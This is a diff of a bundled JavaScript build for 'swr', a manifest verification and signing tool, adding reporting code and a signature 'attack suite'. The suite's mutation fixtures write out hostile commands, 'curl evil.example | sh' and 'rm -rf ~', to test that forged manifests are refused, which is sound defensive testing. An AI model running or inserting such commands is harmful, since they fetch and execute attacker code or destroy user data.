@@ -45900,7 +46443,7 @@ function planLocations(req) {
     for (const at of req.at) {
         const abs = external_node_path_default().resolve(at);
         if (abs === external_node_path_default().parse(abs).root)
-            throw new UsageError(`--at ${at}: refusing the root directory`);
+            throw new errors_UsageError(`--at ${at}: refusing the root directory`);
         checkAt(abs);
         insideWorkspaceNoFollow(req.workspace, abs, at);
         // Named as anchored, so the same directory keeps one history row across runners and paths.
@@ -45995,7 +46538,7 @@ function retire(opts) {
     if (!old)
         return undefined;
     if (!old.read_at && !opts.replace)
-        throw new UsageError(`a planting (${old.plant_id}, ${old.planted_at}) was never read: run "swr canary read" first, or plant with --replace to discard it`);
+        throw new errors_UsageError(`a planting (${old.plant_id}, ${old.planted_at}) was never read: run "swr canary read" first, or plant with --replace to discard it`);
     const cleaned = cleanLedger(old, opts.anchors);
     return { plant_id: old.plant_id, removed: cleaned.removed.length };
 }
@@ -46345,56 +46888,24 @@ function canaryRecord(r) {
     };
 }
 
-;// CONCATENATED MODULE: ./src/core/cache-restore/scratch-copy.ts
-/**
- * A cache archive of swr's own state (a pulled manifest bundle, the canary state) unpacked into a
- * fresh private scratch directory under fixed bounds, holding nothing but directories and regular
- * files. The caller parses and checks it there, and only then takes what it needs.
- */
+;// CONCATENATED MODULE: ./src/core/history/advice.ts
 
-
-
-
-
-
-function onlyPlain(dir) {
-    for (const ent of external_node_fs_default().readdirSync(dir, { withFileTypes: true })) {
-        const abs = external_node_path_default().join(dir, ent.name);
-        if (ent.isDirectory())
-            onlyPlain(abs);
-        else if (!ent.isFile())
-            throw new Rejected(`not a regular file: ${ent.name}`);
-    }
+/** Only a pattern is worth a line: at least two losses, and at least 30% of the window. */
+function isPattern(c) {
+    return c.lost >= 2 && c.lost / c.of >= 0.3;
 }
-/** Unpack `archive` (the cache of one directory) into scratch; throws a Rejected. */
-async function scratchCopy(archive, scratchBase, bounds) {
-    const dir = makeScratch(scratchBase, 'swr-state');
-    const root = external_node_path_default().join(dir, 'w');
-    const dispose = () => removeScratch(dir);
-    try {
-        const x = new EntryExtractor(archive.prefix, root, {
-            kind: 'bounded',
-            ...bounds,
-            single: false
-        });
-        try {
-            await unpack(await archive.open(), archive.compression, x);
-        }
-        finally {
-            x.abort();
-        }
-        x.finish();
-        if (!external_node_fs_default().lstatSync(root).isDirectory())
-            throw new Rejected('the archive does not hold a directory');
-        onlyPlain(root);
-        return { root, dispose };
-    }
-    catch (err) {
-        dispose();
-        if (err instanceof Rejected)
-            throw err;
-        throw new Rejected(`${err.code ?? 'error'}: ${String(err.message).split('\n')[0]}`);
-    }
+function historyAdvice(e, c) {
+    if (!isPattern(c))
+        return undefined;
+    const ideas = [];
+    if (e.tier > 0)
+        ideas.push(`a lower tier than ${e.tier} so it is restored before what needs it`);
+    if (!restoreSources(e).some(s => typeof s !== 'string'))
+        ideas.push('a cache source ("restore": [{"cache": {...}}, ...]) so it comes back from the Actions cache');
+    if (e.kind === 'file' && !e.escrow && e.expect.size <= 256 * 1024)
+        ideas.push('escrow ("swr escrow --only ' + e.id + '") so it restores without a recipe');
+    const base = `damaged in ${c.lost} of the last ${c.of} recorded checks: this platform does not keep it`;
+    return ideas.length > 0 ? `${base}; consider ${ideas.join(', or ')}` : base;
 }
 
 ;// CONCATENATED MODULE: ./src/core/history/context.ts
@@ -46571,6 +47082,107 @@ function recentLosses(records, id, window = TREND_RUNS) {
     return { lost: last.filter(s => s !== 'OK').length, of: last.length };
 }
 
+;// CONCATENATED MODULE: ./src/core/manifest/legacy-signature.ts
+/**
+ * Checking the original tool's HMAC signature on a format-2 manifest, so `swr import` can carry
+ * trust over. Its signing input was Python's json.dumps(manifest without _sig/_pksig,
+ * sort_keys=True, separators=(",", ":"), ensure_ascii=False), and its key the 64 ASCII hex
+ * characters of its key file, used as text (not decoded).
+ */
+
+/** Python's code-point order (JavaScript's default sort compares UTF-16 units). */
+function byCodePoint(a, b) {
+    const x = [...a];
+    const y = [...b];
+    for (let i = 0; i < Math.min(x.length, y.length); i++) {
+        const d = (x[i]?.codePointAt(0) ?? 0) - (y[i]?.codePointAt(0) ?? 0);
+        if (d !== 0)
+            return d;
+    }
+    return x.length - y.length;
+}
+/**
+ * json.dumps(v, sort_keys=True, separators=(",", ":"), ensure_ascii=False). JSON.stringify escapes
+ * strings exactly as Python does with ensure_ascii=False (quote, backslash, \b\f\n\r\t, other
+ * controls as lowercase \u00xx); the strict reader has already refused floats and lone surrogates.
+ */
+function pythonCanonical(v) {
+    if (v === null || typeof v !== 'object')
+        return JSON.stringify(v);
+    if (Array.isArray(v))
+        return `[${v.map(pythonCanonical).join(',')}]`;
+    const keys = Object.keys(v).sort(byCodePoint);
+    return `{${keys.map(k => `${JSON.stringify(k)}:${pythonCanonical(v[k])}`).join(',')}}`;
+}
+/** Check a format-2 document's `_sig` against the original tool's key file text. */
+function verifyLegacyHmac(v2, keyFileText) {
+    const sig = v2._sig;
+    if (typeof sig !== 'object' || sig === null || Array.isArray(sig))
+        return 'absent';
+    const value = sig.value;
+    if (typeof value !== 'string' || !/^[0-9a-fA-F]{64}$/.test(value))
+        return 'invalid';
+    const body = {};
+    for (const [k, x] of Object.entries(v2))
+        if (k !== '_sig' && k !== '_pksig')
+            body[k] = x;
+    const key = Buffer.from(keyFileText.trim(), 'utf8');
+    const want = createHmac('sha256', key).update(pythonCanonical(body), 'utf8').digest();
+    return timingSafeEqual(want, Buffer.from(value, 'hex')) ? 'valid' : 'invalid';
+}
+
+;// CONCATENATED MODULE: ./src/core/report/severity.ts
+const RANK = {
+    MISSING: 0,
+    EMPTY: 1,
+    TYPE: 2,
+    CORRUPT: 3,
+    BROKENLNK: 4,
+    SMOKEFAIL: 5,
+    STRIPPED: 6,
+    SKIPPED: 7,
+    OK: 8
+};
+/** Damaged findings, most severe first, then by tier (what blocks the most comes first). */
+function bySeverity(findings) {
+    return findings
+        .filter(f => f.status !== 'OK')
+        .sort((a, b) => RANK[a.status] - RANK[b.status] || a.tier - b.tier || (a.id < b.id ? -1 : 1));
+}
+
+;// CONCATENATED MODULE: ./src/core/report/annotations.ts
+
+
+function annotationsFor(report, ctx) {
+    const max = ctx.maxErrors ?? 10;
+    const out = [];
+    const left = [];
+    for (const f of bySeverity(report.results)) {
+        const advice = report.diagnosis.advice.find(a => a.id === f.id);
+        const message = `${escape_escapeText(f.detail)}${advice ? `\nCause: ${escape_escapeText(advice.cause)}\nFix: ${escape_escapeText(advice.fix)}` : ''}`;
+        const title = `swr: ${f.status} ${escape_escapeText(f.id)}`;
+        const places = [
+            { level: 'error', title, message, file: ctx.manifestUri, startLine: ctx.lines.get(f.id) ?? 1 }
+        ];
+        const own = f.kind === 'file' || f.kind === 'blob' ? ctx.trackedPath(f.path) : undefined;
+        if (own)
+            places.push({ level: 'error', title, message, file: own, startLine: 1 });
+        if (left.length > 0 || out.length + places.length > max) {
+            left.push(`${f.status} ${escape_escapeText(f.id)}`);
+            continue;
+        }
+        out.push(...places);
+    }
+    if (left.length > 0) {
+        out.push({
+            level: 'notice',
+            title: `swr: ${left.length} more damaged entries`,
+            message: `${left.join(', ')} (GitHub shows at most ${max} error annotations per step; see the job summary)`
+        });
+    }
+    return out;
+}
+
 ;// CONCATENATED MODULE: ./src/core/report/canary.ts
 /**
  * A canary read for people: totals, a table by class (with the attributes that changed) and by
@@ -46619,7 +47231,7 @@ function renderCanaryText(r) {
     }
     return lines.join('\n') + '\n';
 }
-function canary_cell(x) {
+function cell(x) {
     return escapeMarkdown(x);
 }
 function renderCanaryMarkdown(r) {
@@ -46627,7 +47239,7 @@ function renderCanaryMarkdown(r) {
     const lines = [
         `### ${icon} swr canary: ${totals(r.totals)}`,
         '',
-        `<sub>${canary_cell(header(r))}</sub>`,
+        `<sub>${cell(header(r))}</sub>`,
         '',
         '| probe class | what it tests | intact | altered | lost | changed |',
         '| --- | --- | ---: | ---: | ---: | --- |'
@@ -46638,6 +47250,191 @@ function renderCanaryMarkdown(r) {
     for (const [l, t] of Object.entries(r.locations))
         lines.push(`| ${markdownCode(l)} | ${t.intact} | ${t.altered} | ${t.lost} |`);
     return lines.join('\n') + '\n';
+}
+
+;// CONCATENATED MODULE: ./src/core/report/markdown.ts
+
+
+const SUMMARY_LIMIT = 1024 * 1024;
+const BUDGET = SUMMARY_LIMIT - 16 * 1024;
+const ICON = {
+    healthy: '✅',
+    repaired: '🛠️',
+    damaged: '❌',
+    unrepairable: '❌',
+    'still-damaged': '❌',
+    refused: '⛔',
+    interrupted: '⏹️'
+};
+/** Untrusted text in a table cell or a line: literal, one line, no Markdown or HTML. */
+function markdown_cell(s) {
+    return escapeMarkdown(s);
+}
+function markdown_shown(v) {
+    return Object.entries(v)
+        .map(([k, x]) => `${k} ${typeof x === 'number' && k !== 'mode' ? x.toLocaleString('en-US') : String(x)}`)
+        .join(', ');
+}
+function isRepair(r) {
+    return 'repair' in r;
+}
+function renderMarkdown(r, ctx = {}) {
+    const outcome = isRepair(r) ? r.repair.outcome : r.verdict;
+    const head = [];
+    const s = r.summary;
+    const what = isRepair(r) && r.repair.steps.length > 0
+        ? `${r.repair.steps.filter(x => x.outcome === 'repaired').length} of ${r.repair.steps.length} repairs succeeded, ${s.ok}/${s.entries} healthy now`
+        : `${s.ok}/${s.entries} entries healthy`;
+    head.push(`### swr ${r.command}: ${ICON[outcome] ?? ''} ${outcome}`, '', what, '');
+    const signature = isRepair(r) ? r.repair.before.signature : r.diagnosis.signature;
+    if (signature !== 'healthy') {
+        head.push(`**Wipe signature:** \`${signature}\`${isRepair(r) ? ' (before repair)' : ''}: ${markdown_cell(isRepair(r) ? r.repair.before.cause : r.diagnosis.cause)}`, '');
+    }
+    if (isRepair(r) && r.repair.gate && !r.repair.gate.allowed) {
+        head.push(`> [!WARNING]`, `> No recipe ran: ${markdown_cell(r.repair.gate.reason)}`, '');
+    }
+    const rows = bySeverity(r.results).map(f => `| ${f.status} | ${markdownCode(f.id)} | ${markdownCode(f.path)} | ${f.tier} | ${markdown_cell(f.detail)} | ${markdown_cell(markdown_shown(f.recorded))} | ${markdown_cell(markdown_shown(f.found))} |`);
+    const table = rows.length > 0
+        ? [
+            '| Status | Entry | Path | Tier | Found | Recorded | Now |',
+            '|---|---|---|---|---|---|---|'
+        ]
+        : [];
+    const tail = [];
+    if (isRepair(r) && r.repair.steps.length > 0) {
+        tail.push('', '#### Repair', '', '| # | Entry | Tier | Source | Result | Exit | Time |', '|---|---|---|---|---|---|---|');
+        const tiers = new Map(r.repair.plan.flat().map(p => [p.id, p.tier]));
+        r.repair.steps.forEach((st, i) => {
+            const exit = st.recipe
+                ? st.recipe.timedOut
+                    ? 'timeout'
+                    : String(st.recipe.exitCode ?? st.recipe.signal ?? '')
+                : '';
+            const time = st.recipe ? `${(st.recipe.ms / 1000).toFixed(1)} s` : '';
+            tail.push(`| ${i + 1} | ${markdownCode(st.id)} | ${tiers.get(st.id) ?? ''} | ${markdown_cell(st.source)} | ${st.outcome}: ${markdown_cell(st.detail)} | ${exit} | ${time} |`);
+        });
+    }
+    else if (isRepair(r) && r.repair.plan.length > 0) {
+        tail.push('', '#### Repair plan (not run)', '');
+        for (const st of r.repair.plan.flat())
+            tail.push(`- tier ${st.tier} ${markdownCode(st.id)} from ${markdown_cell(st.source)}${st.after.length ? ` after ${markdown_cell(st.after.join(', '))}` : ''}`);
+    }
+    tail.push('', `<sub>manifest ${markdown_cell(r.manifest.path)} · digest \`${r.manifest.digest.slice(0, 16)}\` · version ${r.manifest.version} · ${r.timing.ms} ms · swr ${r.tool.version}</sub>`);
+    return fit(head, table, rows, tail, ctx);
+}
+/** Join the parts, cutting table rows (never the head or tail) to stay under the summary limit. */
+function fit(head, table, rows, tail, ctx) {
+    const fixed = Buffer.byteLength([...head, ...table, ...tail].join('\n')) + 512;
+    const kept = [];
+    let used = fixed;
+    for (const row of rows) {
+        const n = Buffer.byteLength(row) + 1;
+        if (used + n > BUDGET)
+            break;
+        kept.push(row);
+        used += n;
+    }
+    const cut = rows.length - kept.length;
+    const note = cut > 0
+        ? [
+            `| … | ${cut} more rows | | | see ${ctx.reportPath ? markdownCode(ctx.reportPath) : 'the JSON report'} | | |`
+        ]
+        : [];
+    const healthyNote = rows.length === 0 ? ['All entries verify.'] : [];
+    return [...head, ...healthyNote, ...table, ...kept, ...note, ...tail].join('\n') + '\n';
+}
+
+;// CONCATENATED MODULE: ./src/core/report/sarif.ts
+/**
+ * The report as SARIF 2.1.0, for code scanning (`github/codeql-action/upload-sarif`): one rule per
+ * status, one result per damaged entry, located at the line of the manifest that declares it.
+ */
+
+
+
+const RULE_TEXT = {
+    OK: 'The entry verifies.',
+    MISSING: 'A tracked entry is missing from the workspace.',
+    CORRUPT: 'A tracked entry differs from what the manifest recorded (size, content, mode, files or target).',
+    STRIPPED: 'A tracked entry lost an exec bit it should have.',
+    EMPTY: 'A tracked directory survived with no files in it.',
+    BROKENLNK: 'A tracked symlink points at something that does not exist.',
+    TYPE: 'A tracked entry changed kind (file, directory, symlink).',
+    SKIPPED: 'The entry was not repaired because a dependency failed.',
+    SMOKEFAIL: "The entry's files verify but its smoke command fails."
+};
+const LEVEL = {
+    OK: 'note',
+    MISSING: 'error',
+    CORRUPT: 'error',
+    STRIPPED: 'warning',
+    EMPTY: 'error',
+    BROKENLNK: 'error',
+    TYPE: 'error',
+    SKIPPED: 'warning',
+    SMOKEFAIL: 'error'
+};
+function toSarif(report, ctx) {
+    const rules = STATUSES.filter(s => s !== 'OK').map(s => ({
+        id: `swr/${s}`,
+        name: s,
+        shortDescription: { text: RULE_TEXT[s] },
+        defaultConfiguration: { level: LEVEL[s] },
+        helpUri: 'https://swr.dev/docs/statuses'
+    }));
+    const results = bySeverity(report.results).map(f => {
+        const advice = report.diagnosis.advice.find(a => a.id === f.id);
+        return {
+            ruleId: `swr/${f.status}`,
+            ruleIndex: rules.findIndex(r => r.name === f.status),
+            level: LEVEL[f.status],
+            message: {
+                text: `${f.status} ${escape_escapeText(f.id)} (${escape_escapeText(f.path)}): ${escape_escapeText(f.detail)}${advice ? `. Fix: ${escape_escapeText(advice.fix)}` : ''}`
+            },
+            locations: [
+                {
+                    physicalLocation: {
+                        artifactLocation: { uri: ctx.manifestUri },
+                        region: { startLine: ctx.lines.get(f.id) ?? 1 }
+                    },
+                    logicalLocations: [
+                        { name: f.id, fullyQualifiedName: `${f.kind}:${f.path}`, kind: 'resource' }
+                    ]
+                }
+            ],
+            partialFingerprints: { swrEntry: `${f.id}/${f.status}/${f.reason}` },
+            properties: {
+                tier: f.tier,
+                kind: f.kind,
+                path: f.path,
+                reason: f.reason,
+                recorded: f.recorded,
+                found: f.found
+            }
+        };
+    });
+    return {
+        $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
+        version: '2.1.0',
+        runs: [
+            {
+                tool: {
+                    driver: {
+                        name: 'swr',
+                        version: report.tool.version,
+                        informationUri: 'https://swr.dev',
+                        rules
+                    }
+                },
+                results,
+                properties: {
+                    verdict: report.verdict,
+                    wipeSignature: report.diagnosis.signature,
+                    manifestDigest: report.manifest.digest
+                }
+            }
+        ]
+    };
 }
 
 ;// CONCATENATED MODULE: ./src/core/report/survival.ts
@@ -46730,12 +47527,104 @@ function renderStatsMarkdown(s) {
     ].join('\n');
 }
 
-;// CONCATENATED MODULE: ./src/action/canary.ts
+;// CONCATENATED MODULE: ./src/core/restore/cache/scratch-copy.ts
 /**
- * The Action's survival commands: `canary-plant`, `canary-read` and `stats`, and `record: true` on
- * a check. The canary ledger and the history live in a state directory that travels through the
- * Actions cache between runs (restored before, saved under a new key after), so one run plants and
- * the next one reads, and every read or recorded check adds to the same history.
+ * A cache archive of swr's own state (a pulled manifest bundle, the canary state) unpacked into a
+ * fresh private scratch directory under fixed bounds, holding nothing but directories and regular
+ * files. The caller parses and checks it there, and only then takes what it needs.
+ */
+
+
+
+
+
+
+function onlyPlain(dir) {
+    for (const ent of external_node_fs_default().readdirSync(dir, { withFileTypes: true })) {
+        const abs = external_node_path_default().join(dir, ent.name);
+        if (ent.isDirectory())
+            onlyPlain(abs);
+        else if (!ent.isFile())
+            throw new Rejected(`not a regular file: ${ent.name}`);
+    }
+}
+/** Unpack `archive` (the cache of one directory) into scratch; throws a Rejected. */
+async function scratchCopy(archive, scratchBase, bounds) {
+    const dir = makeScratch(scratchBase, 'swr-state');
+    const root = external_node_path_default().join(dir, 'w');
+    const dispose = () => removeScratch(dir);
+    try {
+        const x = new EntryExtractor(archive.prefix, root, {
+            kind: 'bounded',
+            ...bounds,
+            single: false
+        });
+        try {
+            await unpack(await archive.open(), archive.compression, x);
+        }
+        finally {
+            x.abort();
+        }
+        x.finish();
+        if (!external_node_fs_default().lstatSync(root).isDirectory())
+            throw new Rejected('the archive does not hold a directory');
+        onlyPlain(root);
+        return { root, dispose };
+    }
+    catch (err) {
+        dispose();
+        if (err instanceof Rejected)
+            throw err;
+        throw new Rejected(`${err.code ?? 'error'}: ${String(err.message).split('\n')[0]}`);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/sign.ts
+/**
+ * Signing a manifest: raise `version`, then sign the new body with every key this machine holds
+ * (HMAC and/or ML-DSA). Old signatures are dropped: they covered another body.
+ */
+
+
+
+
+function hasSigningKey(keys) {
+    return keys.hmacKey !== undefined || keys.identity !== undefined;
+}
+/** A new document: same entries, a version above both the old one and `floor`, fresh signatures. */
+async function sign_signDocument(doc, keys, 
+/** The highest version already accepted on this machine: signing goes above it. */
+floor = 0) {
+    const body = { ...doc.body, version: Math.max(doc.body.version, floor) + 1 };
+    const input = signingInput(body);
+    const signatures = [];
+    if (keys.hmacKey)
+        signatures.push(signHmac(keys.hmacKey, input));
+    if (keys.identity)
+        signatures.push(await signMldsa(keys.identity, input));
+    return { doc: { ...doc, body, signatures }, digest: manifestDigest(body) };
+}
+/**
+ * Co-signing: add this machine's ML-DSA signature to a manifest whose signatures already verify,
+ * without changing the body or its version, so distinct signers can meet a threshold.
+ */
+async function cosignDocument(doc, identity) {
+    const sig = await signMldsa(identity, signingInput(doc.body));
+    const others = doc.signatures.filter(s => !(s.alg === 'ml-dsa-87' && s.keyid === identity.fingerprint));
+    return { ...doc, signatures: [...others, sig] };
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/attack-suite.ts
+/**
+ * The attack suite behind `swr attacktest` and the property test in npm test. An honest manifest
+ * (signed by a trusted ML-DSA key and this machine's HMAC key, version 5, scoped, not expired) is
+ * attacked by an adversary who holds older signed versions, an expired copy, a copy signed for
+ * another repository, a signature the trusted key made over foreign bytes, and a key of their own.
+ *
+ * Each attempt loads the attacker's text exactly as a run would (strict parse, schema, rules) and
+ * asks the gate. The oracle: whenever the gate allows, the body must equal the honest body, both
+ * as swr parsed it and as a reviewer's reader would (first or last of duplicate keys). Anything
+ * else allowed is a forgery; any exception other than a clean refusal is a crash.
  */
 
 
@@ -46746,7 +47635,2219 @@ function renderStatsMarkdown(s) {
 
 
 
+const ATTACK_CLASSES = (/* unused pure expression or super */ null && ([
+    'byte-flip',
+    'field-edit',
+    'duplicate-key',
+    'reorder-entries',
+    'replay-old-version',
+    'expired-copy',
+    'wrong-scope',
+    'resign-untrusted',
+    'fingerprint-substitution',
+    'strip-signatures',
+    'foreign-payload-type',
+    'oversized-field',
+    'deep-nesting',
+    'huge-escrow'
+]));
+const ALL_SUITE_DEFENSES = Object.freeze({
+    ...gate_ALL_DEFENSES,
+    strictParse: true
+});
+/** Which class shows that each defence is load-bearing. */
+const DEFENCE_PROBES = {
+    signatures: 'field-edit',
+    trust: 'resign-untrusted',
+    fingerprintFromKey: 'fingerprint-substitution',
+    payloadType: 'foreign-payload-type',
+    expiry: 'expired-copy',
+    scope: 'wrong-scope',
+    rollback: 'replay-old-version',
+    strictParse: 'duplicate-key'
+};
+const REPO = 'acme/app';
+const REF = 'refs/heads/main';
+const NOW = new Date('2026-06-01T00:00:00Z');
+function baseBody(version, extra = {}) {
+    const sha = (c) => c.repeat(64);
+    return {
+        schema: 3,
+        version,
+        workspace: '..',
+        created: '2026-01-01T00:00:00Z',
+        expires: '2027-01-01T00:00:00Z',
+        scope: { repository: REPO, ref: 'refs/heads/*' },
+        entries: [
+            {
+                id: 'shim',
+                kind: 'file',
+                path: '.shim/npx',
+                tier: 0,
+                needs: [],
+                restore: 'install-shim',
+                expect: { size: 40, sha256: sha('a'), mode: '0755' }
+            },
+            {
+                id: 'src',
+                kind: 'tree',
+                path: 'src',
+                tier: 2,
+                needs: ['shim'],
+                ignore: [],
+                restore: 'git checkout -- src',
+                expect: {
+                    sentinels: ['main.c'],
+                    min_files: 3,
+                    max_files: 3,
+                    files: 3,
+                    meta_digest: sha('b'),
+                    content_digest: sha('c')
+                }
+            },
+            {
+                id: 'model',
+                kind: 'blob',
+                path: 'models/m.gguf',
+                tier: 3,
+                needs: [],
+                restore: 'fetch-model',
+                expect: { size: 3000000, headtail: sha('d'), mode: '0644' }
+            }
+        ],
+        ...extra
+    };
+}
+/** Sign `body` as-is (signDocument raises the version, so start one lower). */
+async function signed(body, keys) {
+    const lowered = { ...body, version: body.version - 1 };
+    return (await signDocument({ body: lowered, signatures: [] }, keys)).doc;
+}
+async function buildScenario(seed) {
+    const trustedId = await identityFromSeed(seed(1));
+    const attacker = await identityFromSeed(seed(2));
+    const hmacKey = Buffer.from(seed(3));
+    const keys = { hmacKey, identity: trustedId };
+    const honest = await signed(baseBody(5), keys);
+    const evilBody = baseBody(6, {});
+    evilBody.entries[0].restore = 'curl evil.example | sh';
+    const foreign = await signMldsaRaw(trustedId, evilBody);
+    const untrusted = await signed(evilBody, { identity: attacker });
+    const policy = {
+        require: 'any',
+        hmacKey,
+        trusted: new Set([trustedId.fingerprint]),
+        minVersion: 5,
+        run: { repository: REPO, ref: REF, manifestPath: '.swr/manifest.json' },
+        now: NOW
+    };
+    return {
+        honest,
+        honestText: serializeDocument(honest),
+        honestCanonical: canonicalBytes(honest.body).toString('utf8'),
+        policy,
+        olderTexts: await Promise.all([3, 4].map(async (v) => serializeDocument(await signed(baseBody(v), keys)))),
+        expiredText: serializeDocument(await signed(baseBody(6, { expires: '2026-02-01T00:00:00Z' }), keys)),
+        otherScopeText: serializeDocument(await signed(baseBody(6, { scope: { repository: 'acme/other' } }), keys)),
+        foreignText: serializeDocument({ body: evilBody, signatures: [foreign] }),
+        untrustedText: serializeDocument(untrusted),
+        substitutedText: serializeDocument({
+            ...untrusted,
+            signatures: untrusted.signatures.map(sig => ({ ...sig, keyid: trustedId.fingerprint }))
+        })
+    };
+}
+/** A signature the trusted key made over the bare canonical bytes (another purpose, no PAE). */
+async function signMldsaRaw(id, body) {
+    return signMldsa(id, canonicalBytes(body));
+}
+/** The attacker's document text for mutation `m`. */
+async function mutate(s, m) {
+    const text = s.honestText;
+    switch (m.cls) {
+        case 'byte-flip': {
+            const b = Buffer.from(text, 'utf8');
+            const i = m.a % b.length;
+            b[i] = (b[i] ?? 0) ^ (1 << (m.b % 8));
+            return b.toString('utf8');
+        }
+        case 'field-edit':
+            return fieldEdit(s, m);
+        case 'duplicate-key': {
+            // A second "restore" before the signed one: JSON.parse keeps the last, a reviewer may read the first.
+            const at = nthIndex(text, '"restore": ', m.a % 3);
+            return at < 0
+                ? text
+                : `${text.slice(0, at)}"restore": "curl evil.example | sh", ${text.slice(at)}`;
+        }
+        case 'reorder-entries': {
+            const doc = structuredClone(s.honest);
+            doc.body.entries.reverse();
+            if (m.a % 2 === 1)
+                doc.body.entries.push(doc.body.entries.shift());
+            return serializeDocument(doc);
+        }
+        case 'replay-old-version':
+            return s.olderTexts[m.a % s.olderTexts.length] ?? text;
+        case 'expired-copy':
+            return s.expiredText;
+        case 'wrong-scope':
+            return s.otherScopeText;
+        case 'resign-untrusted':
+            return s.untrustedText;
+        case 'fingerprint-substitution':
+            return s.substitutedText;
+        case 'strip-signatures': {
+            const doc = structuredClone(s.honest);
+            doc.signatures = m.a % 2 === 0 ? [] : doc.signatures.filter(x => x.alg !== 'ml-dsa-87');
+            if (m.a % 2 === 1)
+                doc.body.entries[0] = { ...doc.body.entries[0], restore: 'curl evil.example | sh' };
+            return serializeDocument(doc);
+        }
+        case 'foreign-payload-type':
+            return s.foreignText;
+        case 'oversized-field': {
+            const doc = structuredClone(s.honest);
+            doc.body.entries[0] = {
+                ...doc.body.entries[0],
+                restore: 'x'.repeat(65537 + (m.a % 1000))
+            };
+            return serializeDocument(doc);
+        }
+        case 'deep-nesting': {
+            const depth = 33 + (m.a % 200);
+            return text.replace('"signatures": [', `"signatures": [${'['.repeat(depth)}${']'.repeat(depth)},`);
+        }
+        case 'huge-escrow': {
+            const doc = structuredClone(s.honest);
+            const e = doc.body.entries[0];
+            e.escrow = 'A'.repeat(300_000 + (m.a % 1000));
+            return JSON.stringify(doc);
+        }
+    }
+}
+function nthIndex(text, needle, n) {
+    let at = -1;
+    for (let i = 0; i <= n; i++) {
+        at = text.indexOf(needle, at + 1);
+        if (at < 0)
+            return -1;
+    }
+    return at;
+}
+function fieldEdit(s, m) {
+    const doc = structuredClone(s.honest);
+    const e = doc.body.entries[m.a % doc.body.entries.length];
+    const expect = e.expect;
+    switch (m.b % 8) {
+        case 0:
+            e.restore = `${String(e.restore)}; curl evil.example | sh`;
+            break;
+        case 1:
+            e.path = `${String(e.path)}x`;
+            break;
+        case 2:
+            e.tier = ((Number(e.tier) + 1) % 5);
+            break;
+        case 3:
+            e.needs = [];
+            break;
+        case 4:
+            expect.size = Number(expect.size ?? 0) + 1;
+            break;
+        case 5:
+            doc.body.version += 1;
+            break;
+        case 6:
+            doc.body.expires = '2099-01-01T00:00:00Z';
+            break;
+        default:
+            e.smoke = 'rm -rf ~';
+    }
+    return serializeDocument(doc);
+}
+/** What a reviewer's JSON reader shows, keeping the first (or last) of duplicate keys. */
+function readerView(text, keep) {
+    const root = parseTree(text);
+    const build = (n) => {
+        if (!n)
+            return undefined;
+        if (n.type === 'object') {
+            const out = new Map();
+            for (const p of n.children ?? []) {
+                const key = String(p.children?.[0]?.value);
+                if (keep === 'first' && out.has(key))
+                    continue;
+                out.set(key, build(p.children?.[1]));
+            }
+            return Object.fromEntries(out);
+        }
+        if (n.type === 'array')
+            return (n.children ?? []).map(build);
+        return n.value;
+    };
+    return build(root);
+}
+function sameAsHonest(s, body) {
+    try {
+        return canonicalBytes(body).toString('utf8') === s.honestCanonical;
+    }
+    catch {
+        return false;
+    }
+}
+/** Load `text` as a run would and ask the gate. */
+async function attempt(s, text, defenses = ALL_SUITE_DEFENSES) {
+    try {
+        let doc;
+        if (defenses.strictParse)
+            doc = parseManifestText(text, 'attack.json').doc;
+        else {
+            // The lax reader a careless implementation would use (last duplicate wins), still schema-checked.
+            const lax = JSON.parse(text);
+            doc = parseManifestText(JSON.stringify(lax), 'attack.json').doc;
+        }
+        const decision = await decide({ body: doc.body, signatures: doc.signatures, digest: manifestDigest(doc.body) }, s.policy, defenses);
+        if (!decision.allowed)
+            return 'refused';
+        const honest = sameAsHonest(s, doc.body) &&
+            sameAsHonest(s, readerView(text, 'first')?.body) &&
+            sameAsHonest(s, readerView(text, 'last')?.body);
+        return honest ? 'accepted-honest' : 'forgery';
+    }
+    catch (err) {
+        if (err instanceof SwrError || err instanceof SyntaxError)
+            return 'refused';
+        return 'crash';
+    }
+}
+function emptyCounts() {
+    return { attempts: 0, refused: 0, acceptedHonest: 0, forgeries: 0, crashes: 0, byClass: {} };
+}
+function attack_suite_tally(c, cls, o) {
+    c.attempts++;
+    const k = (c.byClass[cls] ??= { attempts: 0, forgeries: 0, crashes: 0 });
+    k.attempts++;
+    if (o === 'refused')
+        c.refused++;
+    else if (o === 'accepted-honest')
+        c.acceptedHonest++;
+    else if (o === 'forgery') {
+        c.forgeries++;
+        k.forgeries++;
+    }
+    else {
+        c.crashes++;
+        k.crashes++;
+    }
+}
+/** Run `count` mutations drawn from `next` (a source of uniform 32-bit integers). */
+async function runSuite(s, count, next, defenses = ALL_SUITE_DEFENSES, classes = ATTACK_CLASSES) {
+    const counts = emptyCounts();
+    for (let i = 0; i < count; i++) {
+        const cls = classes[next() % classes.length];
+        const m = { cls, a: next(), b: next() };
+        attack_suite_tally(counts, cls, await attempt(s, await mutate(s, m), defenses));
+    }
+    return counts;
+}
 
+;// CONCATENATED MODULE: ./src/core/sign/edit-rules.ts
+/**
+ * Editing rules: no signature laundering. An editing command (add, import, escrow, retighten, ...)
+ * may change a signed manifest only when its signature verifies here, or when the user approved
+ * the exact loaded content (--approve-digest); then it re-signs. An unsigned manifest stays
+ * unsigned after an edit (`swr sign` is the explicit approval), unless this machine remembers
+ * accepting a signed version of it: then the missing signatures are treated as stripped.
+ */
+
+
+const HOW_TO_APPROVE = 'review the manifest (its recipes are code), then approve exactly that content with --approve-digest and the digest that "swr verify" shows';
+async function authorizeEdit(m, policy, approveDigest) {
+    if (approveDigest !== undefined) {
+        if (approveDigest.toLowerCase() !== m.digest) {
+            throw new SwrError(`--approve-digest does not match the manifest's digest: it changed since it was reviewed`, EXIT.UNREPAIRABLE);
+        }
+        return { resign: true, note: `approved digest ${m.digest}` };
+    }
+    if (m.doc.signatures.length === 0) {
+        if (policy.remembered &&
+            policy.remembered.signed !== false &&
+            policy.remembered.digest !== m.digest) {
+            throw new SwrError(`${m.file}: a signed version of this manifest was accepted here, and this copy is unsigned and different: refusing to edit; ${HOW_TO_APPROVE}`, EXIT.UNREPAIRABLE);
+        }
+        return { resign: false, note: 'manifest is unsigned: run "swr sign" to approve it' };
+    }
+    // Renewing an expired manifest or moving it is an edit like any other: only signatures and rollback count.
+    const input = gateInput(m);
+    const decision = await decide(input, { ...policy, require: 'any', waiveDigest: undefined }, { ...ALL_DEFENSES, expiry: false, scope: false });
